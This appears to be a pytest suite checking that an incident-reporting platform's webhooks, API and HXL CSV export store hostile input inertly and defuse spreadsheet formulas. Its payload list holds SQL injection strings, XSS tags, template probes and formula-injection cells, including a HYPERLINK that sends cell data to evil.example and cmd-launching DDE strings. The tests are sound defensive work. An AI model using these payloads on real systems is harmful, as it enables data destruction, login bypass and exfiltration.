"""SQL-injection and markup payloads in every text field the webhooks and the API take are stored inertly: read
back through the API they are the very characters sent, every table is still there, filters and paths built from
them match nothing, and the HXL CSV export defuses cells a spreadsheet would run. That the dashboard shows them as
text, in Chromium, is tests/dashboard/test_csp.py's (its browser fixture is one per run: it lives there)."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any
from urllib.parse import quote

import pytest
from sqlalchemy import func, inspect, select

from app.core.models import Base
from app.exports import hxlcsv
from app.exports.facts import IncidentRecord
from app.incidents.models import Incident, Report
from app.operators.models import Operator
from app.partners.models import Partner
from tests.deployment import token_for
from tests.helpers import partner_body, post_partner, post_sms, sms_form

PAYLOADS = [
    "'; DROP TABLE report; --",
    '" OR 1=1 --',
    "' OR '1'='1' /*",
    "Robert'); DELETE FROM operator WHERE ('1'='1",
    "1; UPDATE incident SET status='resolved'; --",
    "<script>window.pwned=1</script>",
    '<img src=x onerror="window.pwned=1">',
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\tTAB\r\nCR LF",
    "Ünïcödé 🚨 ⚠️ עברית العربية \u202eRTL override\u202c \ufeffBOM",
    "back\\slash %s %n %x %00 &amp; &#x3C; \\u0000",
]
NUL = "nul\x00byte"
# The same two sentences with a payload in between: the reports are about an attack in Bria, whatever else they say.
SMS_TEXT = "Hommes armés à Bria {} ils tirent"


def strings(value: Any) -> set[str]:
    """Every string in a JSON document, keys and values."""
    if isinstance(value, str):
        return {value}
    if isinstance(value, dict):
        return set(value) | set().union(*(strings(v) for v in value.values()))
    if isinstance(value, list):
        return set().union(*(strings(v) for v in value))
    return set()


def tables_intact(engine, factory, operators_before: int) -> None:
    """Every table of the schema is still there and readable, and no operator was deleted or added."""
    names = set(inspect(engine).get_table_names())
    assert {table.name for table in Base.metadata.sorted_tables} <= names
    with factory() as session:
        for table in Base.metadata.sorted_tables:
            session.execute(select(func.count()).select_from(table)).scalar_one()
        assert session.scalar(select(func.count()).select_from(Operator)) == operators_before


def all_reports(client, headers) -> list[dict]:
    statuses = ["open", "escalated", "acknowledged", "responding", "resolved", "false_alarm", "merged"]
    page = client.get("/api/v1/incidents", params={"status": statuses, "limit": 200}, headers=headers).json()
    return [r for i in page["items"] for r in client.get(f"/api/v1/incidents/{i['ref']}", headers=headers).json()[
        "reports"]]  # fmt: skip


def test_sms_bodies_are_stored_as_sent(kengele, factory, engine):
    """Each payload in an SMS Body comes back from the incident detail as the same characters."""
    viewer = token_for(kengele.client, factory, "viewer")
    for n, payload in enumerate(PAYLOADS):
        answer = post_sms(kengele.client, sms_form(From=f"+2367210{n:04d}", Body=SMS_TEXT.format(payload)))
        assert answer.status_code == 200 and answer.text.startswith("<?xml")
        assert payload not in answer.text  # the receipt never echoes the message
    kengele.work()
    bodies = [r["body"] for r in all_reports(kengele.client, viewer)]
    assert sorted(bodies) == sorted(SMS_TEXT.format(p) for p in PAYLOADS)
    with factory() as session:  # and none of them stopped the pipeline: each one became a located report
        assert session.scalar(select(func.count()).where(Report.location_place == "Bria")) == len(PAYLOADS)
    tables_intact(engine, factory, 1)


def test_partner_report_fields_are_stored_as_sent(client, factory, engine, partner_credentials):
    """Text, place, category, member id and idempotency key carry payloads; the text comes back unchanged."""
    key, secret = partner_credentials.api_key, partner_credentials.signing_secret
    for payload in PAYLOADS:
        body = partner_body(text=SMS_TEXT.format(payload), place_name=payload, category=payload[:64],
                            reporter={"member_id": payload})  # fmt: skip
        if payload.isascii() and payload.isprintable() and " " not in payload:  # the key's own pattern allows these
            body["idempotency_key"] = payload
        answer = post_partner(client, key, secret, body)
        assert answer.status_code == 202, (payload, answer.text)
        assert post_partner(client, key, secret, body).json()["status"] == "duplicate"  # found again by that key
    from app.intake import tasks as intake_tasks

    while intake_tasks.process_due(factory=factory, vault=client.app.state.vault, batch_size=20, retry_schedule=[1]):
        pass
    viewer = token_for(client, factory, "viewer")
    bodies = [r["body"] for r in all_reports(client, viewer)]
    assert sorted(bodies) == sorted(SMS_TEXT.format(p) for p in PAYLOADS)
    tables_intact(engine, factory, 1)


def _incident(kengele) -> str:
    assert post_sms(kengele.client, sms_form(Body="Attaque des hommes armés à Bria, 12 morts")).status_code == 200
    kengele.work()
    with kengele.factory() as session:
        return session.scalars(select(Incident.ref)).one()


def test_operator_text_fields_are_stored_as_sent(kengele, factory, engine):
    """Notes, reasons, unit, CLA, closure, partner and zone names: each payload reads back as sent."""
    client = kengele.client
    admin = token_for(client, factory, "admin", "admin.inject")
    ref = _incident(kengele)
    api = f"/api/v1/incidents/{ref}"
    units = client.get("/api/v1/units", headers=admin).json()
    for n, p in enumerate(PAYLOADS):
        assert client.post(f"{api}/notes", headers=admin, json={"text": p}).status_code == 201
        assert client.post(f"{api}/priority", headers=admin, json={"priority": "P1", "reason": p}).status_code == 200
        assert client.post(f"{api}/dispatch", headers=admin,
                           json={"unit_id": units[n]["id"], "note": p}).status_code == 200  # fmt: skip
        unit = {"name": p, "kind": "patrol", "sector": p[:50], "capabilities": [p], "lat": 6.5, "lon": 21.9,
                "place": p}  # fmt: skip
        assert client.post("/api/v1/units", headers=admin, json=unit).status_code == 201, p
        cla = {"name": p, "phone": f"+2367540{n:04d}", "area_name": p, "area_lat": 6.5, "area_lon": 21.9,
               "area_radius_km": 20, "languages": ["fr"]}  # fmt: skip
        assert client.post("/api/v1/clas", headers=admin, json=cla).status_code == 201, p
        created = client.post("/api/v1/partners", headers=admin, json={"name": p}).status_code
        assert created == (422 if any(ord(c) < 32 for c in p) else 201), p  # names refuse control characters
        closed = client.post("/api/v1/roads/closures", headers=admin, json={"segment_key": "RN1-Bangui-Bossembele",
                                                                           "reason": p})  # fmt: skip
        assert closed.status_code == 201 and p in strings(client.get("/api/v1/roads/closures", headers=admin).json())
        assert client.delete("/api/v1/roads/closures/RN1-Bangui-Bossembele", headers=admin).status_code == 204
    zones = {"type": "FeatureCollection", "features": [
        {"type": "Feature", "id": f"z{n}", "properties": {"name": p, "protection": "must"},
         "geometry": {"type": "Polygon", "coordinates": [[[21.9, 6.5], [22.0, 6.5], [22.0, 6.6], [21.9, 6.5]]]}}
        for n, p in enumerate(PAYLOADS)]}  # fmt: skip
    assert client.put("/api/v1/zones", headers=admin, json=zones).status_code == 200
    assert client.post(f"{api}/acknowledge", headers=admin, json={"note": PAYLOADS[0]}).status_code == 200
    assert client.post(f"{api}/resolve", headers=admin, json={"note": PAYLOADS[1]}).status_code == 200

    timeline = client.get(api, headers=admin).json()["timeline"]
    notes = [e["data"]["text"] for e in timeline if e["kind"] == "note"]
    assert notes == PAYLOADS
    stored = {
        "timeline": strings(timeline),
        "units": strings(client.get("/api/v1/units", headers=admin).json()),
        "clas": strings(client.get("/api/v1/clas", headers=admin).json()),
        "partners": strings(client.get("/api/v1/partners", headers=admin).json()),
        "zones": strings(client.get("/api/v1/zones", headers=admin).json()),
    }
    partners = [p for p in PAYLOADS if all(ord(c) >= 32 for c in p)]
    # Each partner can be revoked by its name, whatever characters it holds ("/" included); except, here, a name
    # with a %XX in it: Starlette's TestClient decodes the path twice (a real server once).
    revocable = [p for p in partners if not re.search("%[0-9A-Fa-f]{2}", p)]
    for p in revocable:
        assert client.delete(f"/api/v1/partners/{quote(p, safe='')}", headers=admin).status_code == 204, p
    revoked = {p["name"] for p in client.get("/api/v1/partners", headers=admin).json() if p["revoked_at"]}
    assert revoked == set(revocable)
    for where, found in stored.items():
        # Zone names are trimmed on import (app/protection/zones.py), like every property of an imported file.
        sent = {"zones": [p.strip() for p in PAYLOADS], "partners": partners}.get(where, PAYLOADS)
        assert [p for p in sent if p not in found] == [], where
    tables_intact(engine, factory, 1)


def test_injections_in_filters_paths_and_sign_in_match_nothing(kengele, factory, engine):
    """A payload used as a filter, a path segment or a username finds no row and changes none."""
    client = kengele.client
    admin = token_for(client, factory, "admin", "admin.inject")
    ref = _incident(kengele)
    with factory() as session:
        partners = session.scalar(select(func.count()).select_from(Partner))
    for p in [*PAYLOADS[:5], "%", "_", "*", "K-%", ref + "' --"]:
        assert client.get("/api/v1/incidents", params={"category": p}, headers=admin).json()["items"] == []
        assert client.get("/api/v1/callbacks", params={"status": p}, headers=admin).json() == []
        assert client.get(f"/api/v1/incidents/{p}", headers=admin).status_code in (404, 422)
        assert client.delete(f"/api/v1/partners/{p}", headers=admin).status_code == 404
        assert client.patch(f"/api/v1/operators/{p}", headers=admin, json={"active": False}).status_code == 404
    assert client.get("/api/v1/incidents", params={"category": "attack_civilians"}, headers=admin).json()["items"]
    # The right password with a username that would comment out, or widen, a concatenated WHERE clause.
    for username in ("admin.inject' --", "admin.inject'#", "' OR '1'='1", 'admin.inject" --'):
        answer = client.post("/api/v1/auth/token", data={"username": username, "password": "correct horse battery"})
        assert answer.status_code == 401, username
    with factory() as session:
        assert session.scalar(select(Incident.status)) == "escalated"  # nothing was resolved by an UPDATE
        assert session.scalar(select(func.count()).select_from(Partner)) == partners
    assert client.get("/api/v1/auth/me", headers=admin).status_code == 200  # the admin is still active
    tables_intact(engine, factory, 1)


NUL_FIELDS = [
    ("notes", "post", "/api/v1/incidents/{ref}/notes", {"text": NUL}, "/api/v1/incidents/{ref}"),
    ("priority reason", "post", "/api/v1/incidents/{ref}/priority", {"priority": "P2", "reason": NUL},
     "/api/v1/incidents/{ref}"),
    ("unit name", "post", "/api/v1/units", {"name": NUL, "kind": "patrol", "lat": 6.5, "lon": 21.9}, "/api/v1/units"),
    ("CLA name", "post", "/api/v1/clas", {"name": NUL, "phone": "+23675400999", "area_name": NUL, "area_lat": 6.5,
                                          "area_lon": 21.9, "area_radius_km": 20}, "/api/v1/clas"),
    ("closure reason", "post", "/api/v1/roads/closures", {"segment_key": "RN1-Bangui-Bossembele", "reason": NUL},
     "/api/v1/roads/closures"),
    ("partner name", "post", "/api/v1/partners", {"name": NUL}, "/api/v1/partners"),
    ("incident filter", "get", "/api/v1/incidents?category=nul%00byte", None, None),
    ("incident ref", "get", "/api/v1/incidents/K-%00", None, None),
    ("call-back filter", "get", "/api/v1/callbacks?status=nul%00byte", None, None),
]  # fmt: skip


@pytest.mark.parametrize(("field", "method", "path", "body", "read"), NUL_FIELDS, ids=[f[0] for f in NUL_FIELDS])
def test_a_nul_character_is_refused_or_kept_never_a_server_error(kengele, factory, field, method, path, body, read):
    """PostgreSQL cannot store NUL in text: the API answers 4xx or stores the text (with or without it)."""
    admin = token_for(kengele.client, factory, "admin", "admin.inject")
    ref = _incident(kengele)
    answer = kengele.client.request(method, path.format(ref=ref), headers=admin, json=body)
    assert answer.status_code < 500, answer.text
    if answer.status_code < 300 and read:
        stored = strings(kengele.client.get(read.format(ref=ref), headers=admin).json())
        assert {NUL, NUL.replace("\x00", "")} & stored


def test_a_nul_character_in_an_sms_is_accepted_and_the_message_is_not_lost(kengele, factory):
    """Twilio gets its receipt, and the message becomes a report (the NUL kept, or dropped)."""
    viewer = token_for(kengele.client, factory, "viewer")
    assert post_sms(kengele.client, sms_form(Body=SMS_TEXT.format(NUL))).status_code == 200
    kengele.work()
    assert [r["body"] for r in all_reports(kengele.client, viewer)] in (
        [SMS_TEXT.format(NUL)],
        [SMS_TEXT.format(NUL.replace("\x00", ""))],
    )


def _record(**text: str) -> IncidentRecord:
    at = datetime(2024, 5, 1, 12, tzinfo=UTC)
    record = IncidentRecord(ref="K-1234", status="open", priority="P1", category="attack_civilians",
                            severity="Extreme", verification="unverified", lat=6.5, lon=-21.9, precision_m=100.0,
                            ring_m=None, place="Bria", first_report_at=at, last_report_at=at, dead_min=1, dead_max=2,
                            report_count=1, reporter_count=1, created_at=at)  # fmt: skip
    return replace(record, **text)


FORMULAS = [p for p in PAYLOADS if p[0] in hxlcsv.FORMULA_STARTS] + ["=1+1", "+1", "-1+1", "@A1", "\t=1", "\r=1"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_hxl_csv_export_defuses_formula_cells_in_every_text_column(formula):
    """hxlcsv claims (FORMULA_STARTS) that text a spreadsheet would run gets a leading apostrophe: in every column."""
    text_columns = ["ref", "status", "priority", "category", "severity", "verification", "place"]
    rows = list(csv.reader(io.StringIO(hxlcsv.incidents_csv([_record(**dict.fromkeys(text_columns, formula))]))))
    header, row = rows[0], rows[2]
    for column in text_columns:
        assert row[header.index(column)] == "'" + formula, column
    assert row[header.index("lon")] == "-21.9"  # a negative number stays a number


def test_an_sms_place_that_starts_like_a_formula_is_defused_in_the_csv_export(kengele, factory):
    """The place of an incident located by coordinates is the text the reporter typed: "+6.54, +21.99"."""
    viewer = token_for(kengele.client, factory, "viewer")
    assert post_sms(kengele.client, sms_form(Body="Attaque armée à +6.54, +21.99 maintenant")).status_code == 200
    kengele.work()
    exported = kengele.client.get("/api/v1/exports/incidents.csv", headers=viewer)
    rows = list(csv.reader(io.StringIO(exported.text)))
    places = [row[rows[0].index("place")] for row in rows[2:]]
    assert places == ["'+6.54, +21.99"]
    assert not any(cell.startswith(hxlcsv.FORMULA_STARTS) for row in rows[2:] for cell in row
                   if not _number(cell))  # fmt: skip


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
